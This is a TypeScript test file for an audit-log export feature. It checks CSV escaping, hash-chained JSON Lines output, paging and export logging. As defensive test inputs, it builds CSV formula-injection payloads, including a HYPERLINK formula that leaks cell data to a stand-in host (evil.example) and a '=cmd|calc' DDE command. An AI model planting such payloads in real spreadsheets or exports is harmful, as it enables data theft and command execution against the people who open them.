import assert from 'node:assert/strict';
import { createHash } from 'node:crypto';
import { after, before, describe, it } from 'node:test';
import fc from 'fast-check';
import { parse } from 'csv-parse/sync';
import { createCompany } from '../tenants/index.ts';
import { openFixture, type Fixture, type Person } from '../../test/fixture.ts';
import { csvLine } from '../content/index.ts';
import { exportEntries, type ExportOptions } from './export.ts';
import { decodeEntry } from './ledger/encoding.ts';

describe('CSV', () => {
  it('is read by another implementation as it was written, whatever the cells hold', () => {
    const cell = fc.string({
      unit: fc.constantFrom('a', '"', ',', '\r', '\n', '\t', ' ', "'", ';', 'é', '0'),
    });
    fc.assert(
      fc.property(fc.array(cell, { minLength: 2, maxLength: 6 }), (cells) => {
        const [read] = parse(csvLine(cells), { record_delimiter: '\r\n' });
        assert.deepEqual(
          read,
          cells.map((value) => (/^["' ]*[\t\r\n]/.test(value) ? `'${value}` : value)),
        );
      }),
    );
  });

  for (const start of ['=', '+', '-', '@', '\t', '\r', '\n', '\uff1d', '\uff0b', '\uff0d', '\uff20']) {
    it(`no cell begins with ${JSON.stringify(start)}, which a spreadsheet would run`, () => {
      const formula = `${start}HYPERLINK("https://evil.example/?"&A1,"x")`;
      const [[first = ''] = []] = parse(csvLine([formula, 'b']), { record_delimiter: '\r\n' });
      assert.equal(first, `'${formula}`);
    });
  }
});

describe('export (AUD-5)', () => {
  let fixture: Fixture;
  let host: Person;
  before(async () => {
    fixture = await openFixture();
    host = await fixture.person();
    await fixture.person();
    for (let n = 0; n < 25; n += 1) {
      // oxlint-disable-next-line no-await-in-loop -- one after another
      await createCompany(host.session, { name: n === 3 ? '=cmd|calc' : `Branch ${n}` });
    }
    const worker = await fixture.connect('worker');
    await worker.query('select * from bulkhead.seal_audit()');
  });
  after(() => fixture.close());

  const text = async (options: ExportOptions): Promise<string> => {
    let all = '';
    for await (const piece of await exportEntries(host.session, options)) all += piece;
    return all;
  };
  const events = async () =>
    (
      await host.session.query<{ action: string; detail: Record<string, unknown> }>(
        `select action, detail from bulkhead.audit_entry where action like 'audit.export%' order by id desc limit 2`,
      )
    ).rows;

  it('CSV: a heading, then every entry of the filter, oldest first, over many pages', async () => {
    const rows = parse<Record<string, string>>(
      await text({ format: 'csv', filter: { targetType: 'tenants.company' }, page: 4 }),
      { columns: true, record_delimiter: '\r\n' },
    );
    assert.equal(rows.length, 25);
    assert.deepEqual(new Set(rows.map(({ action }) => action)), new Set(['insert']));
    const ids = rows.map(({ id }) => BigInt(id ?? 0));
    assert.deepEqual(
      ids,
      ids.toSorted((one, next) => (one < next ? -1 : 1)),
    );
    assert.equal((JSON.parse(rows[3]?.['after'] ?? '') as { name: string }).name, '=cmd|calc');
    assert.equal(rows[0]?.['actorId'], host.accountId);
  });

  it('JSON Lines: the exact bytes that are hashed, each with its place and what leads to its leaf', async () => {
    const [header, ...lines] = (await text({ format: 'jsonl', page: 7 })).trimEnd().split('\n');
    assert.deepEqual(JSON.parse(header ?? ''), { format: 'bulkhead-audit-entries/1', filter: {} });
    const entries = lines.map((line) => JSON.parse(line) as Record<string, string> & { seq?: number });
    const sealed = entries.filter(({ seq }) => seq !== undefined);
    assert.ok(sealed.length > 25);
    for (const { seq, leaf, previous, entry, id } of sealed) {
      const bytes = Buffer.from(entry ?? '', 'base64');
      const before = previous === undefined ? Buffer.alloc(32) : Buffer.from(previous, 'base64');
      const hash = createHash('sha256').update(Buffer.of(0)).update(before).update(bytes).digest('base64');
      assert.equal(leaf, hash, `entry ${seq}`);
      assert.equal(decodeEntry(bytes)?.id, id);
      assert.equal(decodeEntry(bytes)?.tenant_id, host.tenantId);
    }
    assert.deepEqual(new Set(entries.map(({ id }) => id)).size, entries.length);
  });

  it('is itself in the log: what was asked for when it begins, how much went out when it ends', async () => {
    await text({ format: 'csv', filter: { action: 'insert', from: new Date(0) } });
    const [end, start] = await events();
    const asked = { format: 'csv', filter: { action: 'insert', from: '1970-01-01T00:00:00.000Z' } };
    assert.deepEqual(start, { action: 'audit.export', detail: asked });
    assert.equal(end?.action, 'audit.export_end');
    assert.equal(end.detail['complete'], true);
    assert.ok(Number(end.detail['entries']) >= 25);
  });

  it('reads nothing ahead of its reader, and stops when the reader leaves', async () => {
    let queries = 0;
    const session: Person['session'] = {
      query: (...given) => {
        queries += 1;
        return host.session.query(...given);
      },
    } as Person['session'];
    const pieces = await exportEntries(session, { format: 'csv', page: 5 });
    assert.equal(queries, 1, 'the entry that says it begins');
    await pieces.next();
    await pieces.next();
    assert.equal(queries, 2);
    await pieces.return();
    assert.equal(queries, 3, 'the entry that says it ended');
    const [end] = await events();
    assert.deepEqual([end?.detail['entries'], end?.detail['complete']], [5, false]);
  });
});
